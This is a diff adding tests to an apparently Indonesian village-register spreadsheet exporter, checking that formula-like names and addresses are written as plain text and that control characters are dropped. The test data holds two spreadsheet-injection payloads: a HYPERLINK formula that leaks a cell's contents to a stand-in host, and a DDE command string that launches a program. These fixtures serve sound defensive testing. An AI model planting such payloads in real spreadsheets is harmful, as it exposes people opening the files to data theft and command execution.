@@ -384,3 +384,37 @@ def test_monthly_wrong_suffix_is_refused_and_nothing_written(tmp_path: Path) -> 
 
     assert raised.value.message == "Nama berkas laporan.xls harus berakhiran .xlsx."
     assert list(tmp_path.iterdir()) == []
+
+
+# -- typed text stays text ---------------------------------------------------------------------------
+
+FORMULA_NAME = '=HYPERLINK("http://x.example/?"&C8,"Budi")'
+
+
+def test_typed_text_that_looks_like_a_formula_stays_text(tmp_path: Path) -> None:
+    lines = [
+        line(FORMULA_NAME, date(1990, 1, 2), "L", 1, address="=1+2"),
+        line("#N/A", date(1991, 1, 2), "P", 2),
+    ]
+    sheet = write_register(tmp_path, [lines])
+    name, address = sheet.cell(row=HEADER_ROW + 1, column=2), sheet.cell(row=HEADER_ROW + 1, column=8)
+    error_like = sheet.cell(row=HEADER_ROW + 2, column=2)
+    assert (name.value, name.data_type) == (FORMULA_NAME, "s")
+    assert (address.value, address.data_type) == ("=1+2", "s")
+    assert (error_like.value, error_like.data_type) == ("#N/A", "s")
+
+
+def test_control_characters_are_dropped_not_a_crash(tmp_path: Path) -> None:
+    sheet = write_register(
+        tmp_path, [[line("Siti\x01 Aminah", date(1990, 1, 2), "P", 1, address="Jl. A\x0bNo. 5")]]
+    )
+    assert sheet.cell(row=HEADER_ROW + 1, column=2).value == "Siti Aminah"
+    assert sheet.cell(row=HEADER_ROW + 1, column=8).value == "Jl. ANo. 5"
+
+
+def test_monthly_tables_keep_a_formula_like_village_head_as_text(tmp_path: Path) -> None:
+    letterhead = replace(VILLAGE, village_head_name="=cmd|' /C calc'!A0", address="Jl.\x02 Raya")
+    about = write_monthly(tmp_path, full_figures(letterhead=letterhead))["Keterangan"]
+    head = cell_of(about, "Kepala Desa")
+    assert (head.value, head.data_type) == ("=cmd|' /C calc'!A0", "s")
+    assert value_of(about, "Alamat kantor") == "Jl. Raya"
